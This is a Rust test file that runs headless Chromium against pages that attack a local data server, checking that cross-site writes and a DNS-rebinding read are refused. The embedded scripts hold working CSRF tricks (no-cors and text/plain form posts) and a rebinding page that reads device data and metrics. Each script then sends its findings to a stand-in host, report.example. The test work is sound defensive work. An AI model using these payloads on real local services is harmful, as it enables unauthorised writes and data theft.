//! The same with a real browser, and pages that attack.
//!
//! The attacker listens on the server's port on another address of this machine, and all names of the
//! attacker lead there. Like the name server of a rebinding attack, the attacker first hands out its page and
//! then leads the browser to the server under the same name: it passes on what it gets as it is.

use std::process::{Command, Stdio};

use serde_json::{Value, json};
use tempfile::TempDir;
use tokio::io::{AsyncReadExt, AsyncWriteExt, copy_bidirectional};
use tokio::net::{TcpListener, TcpStream};
use tokio::sync::mpsc;

use super::{nothing_is_stored, rejected};
use crate::harness::{Killed, Server, Setup, fetched};

const ATTACKER: &str = "127.0.0.2";

/// Sends the writes that a page may send without a preflight request, and tries to read.
const CROSS_SITE: &str = r#"
const server = `http://127.0.0.1:${location.port}`;
for (const path of ["/write", "/api/v2/write", "/api/v3/write_lp"]) {
  for (const type of ["text/plain", "application/x-www-form-urlencoded"]) {
    const line = "m,deviceId=written value=1";
    const request = {method: "POST", mode: "no-cors", headers: {"content-type": type}, body: line};
    await attempt(path, fetch(server + path, request));
  }
}
// JSON, once as plain text and once without a type.
const object = JSON.stringify({deviceId: "written", value: 1});
for (const body of [object, new Blob([object])]) {
  await attempt("/v1/readings", fetch(server + "/v1/readings", {method: "POST", mode: "no-cors", body}));
}
await new Promise(loaded => {
  const frame = document.createElement("iframe");
  frame.name = "frame";
  document.body.append(frame);
  const form = document.createElement("form");
  form.method = "POST";
  form.action = server + "/write";
  form.enctype = "text/plain";
  form.target = "frame";
  form.innerHTML = "<input name='m,deviceId' value='written value=1'>";
  document.body.append(form);
  frame.onload = loaded;
  form.submit();
});
for (const mode of ["cors", "no-cors"]) await attempt("read", fetch(server + "/v1/devices", {mode}));
"#;

/// Sends any requests to its own name, which resolves to the server.
const REBINDING: &str = r#"
const body = JSON.stringify({deviceId: "written", value: 1});
await attempt("write", fetch("/v1/readings", {method: "POST", headers: {"content-type": "application/json"}, body}));
await attempt("read", fetch("/v1/devices"));
await attempt("metrics", fetch("/metrics"));
"#;

fn page(script: &str) -> String {
    format!(
        r#"<!doctype html><body><script type="module">
const found = [];
async function attempt(name, fetching) {{
  try {{
    const answer = await fetching;
    found.push({{name, status: answer.status, text: await answer.text()}});
  }} catch (error) {{
    found.push({{name, error: String(error)}});
  }}
}}
{script}
// Another name, and so another connection.
const report = `http://report.example:${{location.port}}/report`;
await fetch(report, {{method: "POST", mode: "no-cors", body: JSON.stringify(found)}});
</script>"#
    )
}

/// A browser that shows one page. It ends when this is dropped.
struct Chromium {
    _process: Killed,
    _profile: TempDir,
}

impl Chromium {
    fn show(url: &str) -> Self {
        let profile = tempfile::tempdir().expect("a temporary folder");
        let rules = format!("MAP *.example {ATTACKER}, EXCLUDE 127.0.0.1, MAP * ~NOTFOUND");
        let process = Command::new(fetched("get-chromium"))
            .args(["--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run"])
            .args(["--disable-background-networking", "--disable-component-update"])
            .arg(format!("--user-data-dir={}", profile.path().display()))
            .arg(format!("--host-resolver-rules={rules}"))
            .arg("--remote-debugging-port=0") // without it, it ends when the page is loaded
            .arg(url)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("Chromium runs");
        Self { _process: Killed(process), _profile: profile }
    }
}

/// Serves a page, receives the report of its script, and forwards all other requests to the server.
async fn attacker(listener: TcpListener, server: std::net::SocketAddr, page: String, reports: mpsc::Sender<Value>) {
    loop {
        let (stream, _) = listener.accept().await.expect("the attacker listens");
        let (page, reports) = (page.clone(), reports.clone());
        tokio::spawn(async move {
            drop(attend(stream, server, &page, &reports).await); // a browser may close at any time
        });
    }
}

async fn attend(
    mut browser: TcpStream,
    server: std::net::SocketAddr,
    page: &str,
    reports: &mpsc::Sender<Value>,
) -> std::io::Result<()> {
    let mut request = Vec::new();
    let head = loop {
        if let Some(at) = request.windows(4).position(|end| end == b"\r\n\r\n") {
            break at + 4;
        }
        if browser.read_buf(&mut request).await? == 0 {
            return Ok(());
        }
    };
    if request.starts_with(b"GET /page ") {
        let length = page.len();
        let head =
            format!("HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Type: text/html\r\nContent-Length: {length}");
        return browser.write_all(format!("{head}\r\n\r\n{page}").as_bytes()).await;
    }
    if request.starts_with(b"POST /report ") {
        let text = String::from_utf8_lossy(&request[..head]).to_ascii_lowercase();
        let length = text.split("content-length: ").nth(1).and_then(|rest| rest.split("\r\n").next()?.parse().ok());
        let length: usize = length.expect("a length");
        while request.len() < head + length {
            browser.read_buf(&mut request).await?;
        }
        let report = serde_json::from_slice(&request[head..]).expect("JSON");
        reports.send(report).await.expect("the test waits for it");
        return browser.write_all(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n").await;
    }
    let mut server = TcpStream::connect(server).await?;
    server.write_all(&request).await?;
    copy_bidirectional(&mut browser, &mut server).await.map(drop)
}

/// Opens the attacker's page and returns the report of its script.
async fn attack(server: &Server, name: &str, script: &str) -> Vec<Value> {
    let address = server.http_addr();
    let listener = TcpListener::bind((ATTACKER, address.port())).await.expect("the port is free on the other address");
    let (reports, mut reported) = mpsc::channel(1);
    let attacker = tokio::spawn(attacker(listener, address, page(script), reports));
    let browser = Chromium::show(&format!("http://{name}:{}/page", address.port()));
    let report = tokio::time::timeout(std::time::Duration::from_secs(120), reported.recv());
    let report = report.await.expect("the page reports in time").expect("the attacker is there");
    drop(browser);
    attacker.abort();
    report.as_array().expect("a list").clone()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_page_of_another_site_stores_and_reads_nothing() {
    let server = Server::start(Setup::default_config()).await;
    let found = attack(&server, "evil.example", CROSS_SITE).await;
    assert_eq!(found.len(), 10, "{found:?}");
    assert!(found.iter().all(|attempt| !attempt["text"].as_str().unwrap_or_default().contains("devices")), "{found:?}");
    assert_eq!(rejected(&server.metrics().await, "foreign_origin"), 9, "each write came, and was refused: {found:?}");
    nothing_is_stored(&server).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_page_that_rebinds_its_name_stores_and_reads_nothing() {
    let server = Server::start(Setup::default_config()).await;
    let found = attack(&server, "rebind.example", REBINDING).await;
    let statuses: Vec<_> = found.iter().map(|attempt| &attempt["status"]).collect();
    assert_eq!(statuses, [&json!(421); 3], "{found:?}");
    assert!(found.iter().all(|attempt| !attempt["text"].to_string().contains("tidegauge_")), "{found:?}");
    nothing_is_stored(&server).await;
}

/// A control: the attack succeeds under an allowed name.
#[tokio::test(flavor = "multi_thread")]
async fn a_page_under_a_name_that_is_allowed_writes_and_reads() {
    let server = Server::start(Setup::sqlite().set("http.allowed_hosts", vec!["rebind.example"])).await;
    let found = attack(&server, "rebind.example", REBINDING).await;
    let statuses: Vec<_> = found.iter().map(|attempt| &attempt["status"]).collect();
    assert_eq!(statuses, [&json!(200); 3], "{found:?}");
    assert!(found[1]["text"].as_str().is_some_and(|text| text.contains("\"written\"")), "{found:?}");
}
